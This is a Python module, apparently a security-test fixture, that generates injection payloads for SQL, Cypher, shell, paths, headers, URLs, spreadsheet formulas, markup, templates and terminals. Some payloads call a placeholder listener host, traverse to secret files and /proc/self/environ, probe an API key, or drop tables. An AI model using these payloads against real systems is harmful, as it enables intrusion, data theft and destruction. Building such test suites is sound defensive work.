"""Texts made to do something where they are taken for more than text: by a database, a shell, a browser, a spreadsheet, a terminal."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Targets:
    """The targets of the texts, and the places of their effects.

    `made`: a path without a file. `secret`: a file outside of the readable folders. `listening`: HOST:PORT of a listener that nobody has a
    reason to call.

    """

    made: str
    secret: str
    listening: str


def payloads(aim: Targets) -> dict[str, str]:
    """Every text, by its name."""
    families = {
        "sql": _SQL, "cypher": _CYPHER, "path": _PATHS, "shell": _SHELL, "header": _HEADERS, "url": _URLS, "formula": _FORMULAS,
        "markup": _MARKUP, "template": _TEMPLATES, "terminal": _TERMINAL,
    }  # fmt: skip
    values = {"MADE": aim.made, "SECRET": aim.secret, "LISTENING": aim.listening}
    return {f"{name} {number}": _filled(text, values) for name, texts in families.items() for number, text in enumerate(texts)}


def _filled(text: str, values: dict[str, str]) -> str:
    for name, value in values.items():
        text = text.replace(name, value)
    return text


_SQL = (
    "1=1; COPY (SELECT 1) TO 'MADE'",
    "1=1); COPY (SELECT 1) TO 'MADE'; SELECT (1=1",
    "1=1) UNION SELECT content FROM read_text('SECRET') --",
    "origin IN (SELECT content FROM read_text('SECRET'))",
    "(SELECT content FROM read_text('SECRET')) = origin",
    "1=1; ATTACH 'MADE' AS other",
    "1=1; INSTALL httpfs FROM 'http://LISTENING/'",
    "EXISTS (FROM read_csv('http://LISTENING/x.csv'))",
    "'; DROP TABLE node; --",
    "' OR '1'='1",
    "x'); DELETE FROM edge; VACUUM INTO 'MADE'; --",
    '"; DETACH DATABASE main; --',
    "1=1\n)\n; EXPORT DATABASE 'MADE' --",
    "getenv('HEADWATER_API_KEY') LIKE '%'",
)
_CYPHER = (
    "' OR 1=1 DETACH DELETE n //",
    "`}) DETACH DELETE n WITH 1 AS x MATCH (m) RETURN m //",
    "'}) LOAD CSV FROM 'http://LISTENING/' AS line RETURN line //",
    "x' CALL apoc.load.json('http://LISTENING/') YIELD value RETURN value //",
    "\\u0027}) SET n.tenant = 'other' //",
    "$tenant} RETURN 1 //",
)
_PATHS = (
    "../../../../../../../..SECRET",
    "SECRET",
    "file:SECRET",
    "file://localhostSECRET",
    "....//....//..SECRET",
    "..%2f..%2f..%2f..%2f..SECRET",
    "/proc/self/environ",
    "SECRET\0.parquet",
    "MADE",
    "~/../..SECRET",
)
_SHELL = (
    "; touch MADE",
    "$(touch MADE)",
    "`touch MADE`",
    "| touch MADE",
    "&& touch MADE &&",
    "\ntouch MADE\n",
    "'; touch MADE; '",
    '"; touch MADE; "',
    "--output=MADE",
    "-oProxyCommand=touch MADE",
)
_HEADERS = (
    "x\r\nX-Injected: 1",
    "x\r\n\r\nHTTP/1.1 200 OK\r\nX-Injected: 1\r\n\r\n",
    "x\nSet-Cookie: injected=1",
    "x\rX-Injected: 1",
    "x%0d%0aX-Injected:%201",
    "x\u560d\u560aX-Injected: 1",
    "x\u2028X-Injected: 1",
)
_URLS = (
    "http://LISTENING/latest/meta-data/",
    "https://LISTENING/",
    "s3://LISTENING/bucket",
    "s3a://key:secret@LISTENING/bucket/x",
    "hdfs://LISTENING/x",
    "jdbc:postgresql://LISTENING/db",
    "gopher://LISTENING/_",
    "//LISTENING/x",
    "\\\\LISTENING\\share",
    "http://[::ffff:127.0.0.1]:1@LISTENING/",
    "kafka://LISTENING/topic",
)
_FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://LISTENING/","x")',
    '=IMPORTXML("http://LISTENING/","//a")',
)
_MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><script>alert(1)</script>",
    "javascript:alert(1)//",
    "<svg/onload=alert(1)>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file://SECRET">]><a>&b;</a>',
    "[bold]x[/nothing]",
)
_TEMPLATES = (
    "${jndi:ldap://LISTENING/a}",
    "{{7*7}}",
    "{0.__class__.__init__.__globals__}",
    "%(secret)s%n%s",
    "__import__('os').system('touch MADE')",
    "!!python/object/apply:os.system ['touch MADE']",
)
_TERMINAL = (
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[1;1H",
    "\x9b31mx",
    "x\x08\x08y",
    "[link=http://LISTENING/]x[/link]",
)
